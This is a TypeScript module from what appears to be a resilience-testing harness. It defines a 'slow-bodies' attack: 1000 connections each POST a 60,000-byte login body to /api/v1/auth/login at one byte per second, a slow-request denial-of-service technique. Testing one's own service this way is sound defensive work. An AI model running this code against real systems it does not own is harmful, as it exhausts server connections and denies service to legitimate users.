import type { Attack } from "../attack.ts";
import { trickle } from "./trickle.ts";

const CONNECTIONS = 1000;
const LENGTH = 60_000;

export const slowBodies: Attack = {
  name: "slow-bodies",
  summary: `nobody: ${CONNECTIONS} connections with a login of ${LENGTH} bytes, a byte a second`,
  begin(front) {
    const body = `{"email":"${"x".repeat(LENGTH)}`;
    const request = front.wire({ method: "POST", path: "/api/v1/auth/login", body });
    const head = request.slice(0, request.indexOf("\r\n\r\n") + 4);
    front.repeat(CONNECTIONS, (address) =>
      front.hold(address, (connection) => {
        connection.write(`${head}{"email":"`);
        trickle(connection);
      }),
    );
  },
};
